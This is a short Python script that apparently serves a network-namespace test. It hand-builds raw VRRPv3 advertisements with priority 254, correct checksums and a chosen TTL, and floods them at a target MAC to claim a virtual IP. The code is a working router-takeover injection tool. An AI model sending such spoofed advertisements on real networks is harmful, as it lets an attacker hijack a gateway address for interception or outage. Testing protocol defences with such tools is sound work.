"""Sends VRRP advertisements that nobody asked for, from this namespace's eth0: ADDRESS (of the sender), TARGET, MAC (of the
target), ROUTER_ID, VIP, TTL, SECONDS."""
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main(source, target, mac, router_id, vip, ttl, seconds):
    # RFC 5798: version 3, advertisement, priority 254, one address, 10 hundredths of a second.
    body = struct.pack("!BBBBHH4s", 0x31, int(router_id), 254, 1, 10, 0, socket.inet_aton(vip))
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!HH", 112, len(body))
    body = body[:6] + struct.pack("!H", checksum(pseudo + body)) + body[8:]
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0xC0, 20 + len(body), 1, 0, int(ttl), 112, 0,
                       socket.inet_aton(source), socket.inet_aton(target))
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    card = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    card.bind(("eth0", 0x0800))
    own = card.getsockname()[4]
    frame = bytes.fromhex(mac.replace(":", "")) + own + b"\x08\x00" + head + body
    deadline = time.monotonic() + float(seconds)
    while time.monotonic() < deadline:
        card.send(frame)
        time.sleep(0.05)


if __name__ == "__main__":
    main(*sys.argv[1:])
